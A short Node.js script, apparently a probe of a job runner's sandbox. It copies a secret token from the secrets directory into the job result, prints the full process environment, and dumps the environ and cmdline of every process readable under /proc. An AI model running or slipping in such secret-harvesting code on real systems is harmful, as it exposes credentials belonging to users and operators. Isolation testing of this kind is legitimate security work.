const fs = require("fs");
const token = fs.readFileSync(process.env.MYCOJOBS_SECRETS + "/token", "utf8");
fs.writeFileSync(process.env.MYCOJOBS_RESULT, JSON.stringify({ token }));
console.log(process.env);
for (const id of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  for (const file of ["environ", "cmdline"]) {
    try {
      console.log(id, file, fs.readFileSync(`/proc/${id}/${file}`, "latin1"));
    } catch (error) {
      console.log(id, file, error.code);
    }
  }
}
console.log(fs.readdirSync("/job"));
